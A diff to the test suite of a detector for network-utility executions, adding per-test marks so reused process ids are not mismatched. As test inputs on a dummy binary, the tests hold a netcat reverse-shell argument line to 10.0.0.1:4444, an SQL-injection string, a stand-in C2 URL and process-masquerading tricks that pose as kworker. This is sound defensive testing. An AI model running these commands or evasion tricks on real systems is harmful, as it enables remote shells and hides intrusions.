@@ -46,8 +46,9 @@ def nc(playground: Path) -> str:
     return str(write_executable(playground / "nc", tiny_elf()))
 
 
-def row_of(rows: Collector, pid: int, timeout: float = 10.0) -> dict[str, Any]:
-    (row,) = rows.wait_for(lambda r: r["pid"] == pid, timeout=timeout)
+def row_of(rows: Collector, pid: int, since: int, timeout: float = 10.0) -> dict[str, Any]:
+    """The row of pid among those collected since `since` (pids are reused in a session)."""
+    (row,) = rows.wait_for(lambda r: r["pid"] == pid, since=since, timeout=timeout)
     return row
 
 
@@ -61,16 +62,18 @@ def run(path: str, argv: list[bytes], **kwargs: Any) -> int:
 @given(args=st.lists(st.one_of(st.binary(max_size=300).filter(lambda b: b"\0" not in b), st.sampled_from(NASTY)), max_size=12))
 def test_any_argv_arrives_exactly_and_stays_data(sensor: Sensor, rows: Collector, nc: str, args: list[bytes]) -> None:
     argv = [b"nc", *args]
+    mark = rows.mark()
     pid = run(nc, argv)
-    row = row_of(rows, pid)
+    row = row_of(rows, pid, mark)
     assert json.loads(row["json_cmdline"]) == [a.decode("utf-8", "backslashreplace") for a in argv]
     assert row["argc"] == len(argv) and row["args_truncated"] == 0 and row["utility"] == "netcat"
 
 
 def test_sql_in_arguments_is_stored_as_data(sensor: Sensor, rows: Collector, nc: str) -> None:
     evil = "x'; DROP TABLE events; --"
+    mark = rows.mark()
     pid = run(nc, [b"nc", evil.encode()])
-    row_of(rows, pid)
+    row_of(rows, pid, mark)
     sensor.store.flush()
     host = Host([ExecsTable(lambda: sensor.store)])
     _, found = host.query(f"SELECT cmdline FROM network_utility_execs WHERE pid = {pid}")
@@ -82,17 +85,19 @@ def test_empty_argv_is_reported(sensor: Sensor, rows: Collector, nc: str) -> Non
     code = ("import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
             "argv = (ctypes.c_char_p * 1)(None)\nenvp = (ctypes.c_char_p * 1)(None)\n"
             f"libc.execve({nc.encode()!r}, argv, envp)\nos._exit(127)\n")
+    mark = rows.mark()
     proc = subprocess.run([sys.executable, "-c", code], timeout=10)
     assert proc.returncode == 0
-    row = rows.wait_for(lambda r: r["path"] == nc and r["argc"] == 0, timeout=10)
+    row = rows.wait_for(lambda r: r["path"] == nc and r["argc"] == 0, since=mark, timeout=10)
     assert row and row[0]["cmdline"] == "" and row[0]["json_cmdline"] == "[]"
 
 
 def test_setuid_reports_the_real_user(sensor: Sensor, rows: Collector, playground: Path) -> None:
     suid = write_executable(playground / "ncat", tiny_elf())
     suid.chmod(0o4755)
+    mark = rows.mark()
     pid = run(str(suid), [b"ncat", b"--version"], user=65534)
-    row = row_of(rows, pid)
+    row = row_of(rows, pid, mark)
     assert row["uid"] == 65534 and row["utility"] == "ncat"
 
 
@@ -100,9 +105,10 @@ def test_exec_from_a_non_leader_thread_names_the_process(sensor: Sensor, rows: C
     code = ("import os, threading\n"
             f"t = threading.Thread(target=lambda: os.execv({nc!r}, ['nc', '-h', 'from-thread']))\n"
             "t.start(); t.join()\n")
+    mark = rows.mark()
     proc = subprocess.Popen([sys.executable, "-c", code])
     proc.wait(timeout=10)
-    row = row_of(rows, proc.pid)
+    row = row_of(rows, proc.pid, mark)
     assert row["cmdline"] == "nc -h from-thread"
 
 
@@ -114,9 +120,10 @@ def test_an_fd_path_exec_of_a_copy_is_found_by_content(sensor: Sensor, rows: Col
     code = ("import os, sys\n"
             f"fd = os.open({real!r}, os.O_RDONLY)\n"
             f"os.execv(f'/proc/self/fd/{{fd}}', ['kworker', '-l', '127.0.0.1', '{port}'])\n")
+    mark = rows.mark()
     proc = subprocess.Popen([sys.executable, "-c", code])
     try:
-        row = row_of(rows, proc.pid)
+        row = row_of(rows, proc.pid, mark)
     finally:
         proc.kill()
         proc.wait(timeout=10)
@@ -134,9 +141,10 @@ def test_renaming_itself_and_rewriting_argv_after_exec_changes_nothing(sensor: S
         "    mem.seek(start)\n"
         "    mem.write(b'[kworker/0:1]'.ljust(end - start, b'\\0'))\n"
         "time.sleep(3)\n"))
+    mark = rows.mark()
     proc = subprocess.Popen([str(script), "https://c2.example.test/secret"])
     try:
-        row = row_of(rows, proc.pid)
+        row = row_of(rows, proc.pid, mark)
         deadline = time.monotonic() + 5
         while b"kworker" not in Path(f"/proc/{proc.pid}/cmdline").read_bytes() and time.monotonic() < deadline:
             time.sleep(0.05)
@@ -153,10 +161,12 @@ def test_a_multicall_binary_running_an_applet_is_that_utility(sensor: Sensor, ro
     outside = Path(tempfile.mkdtemp(prefix="netutil-", dir="/var/lib"))   # not a forwarded directory
     try:
         busybox = write_executable(outside / "busybox", tiny_elf())
+        mark = rows.mark()
         pid = run(str(busybox), [b"busybox", b"nc", b"-e", b"/bin/sh", b"10.0.0.1", b"4444"])
-        row = row_of(rows, pid)
+        row = row_of(rows, pid, mark)
         assert row["utility"] == "netcat" and row["comm"] == "busybox" and row["ip_args"] == "10.0.0.1"
+        mark = rows.mark()
         pid = run(str(busybox), [b"busybox", b"ls"])
-        assert not rows.wait_for(lambda r: r["pid"] == pid, timeout=1.0)   # not a network utility
+        assert not rows.wait_for(lambda r: r["pid"] == pid, since=mark, timeout=1.0)   # not a network utility
     finally:
         shutil.rmtree(outside, ignore_errors=True)
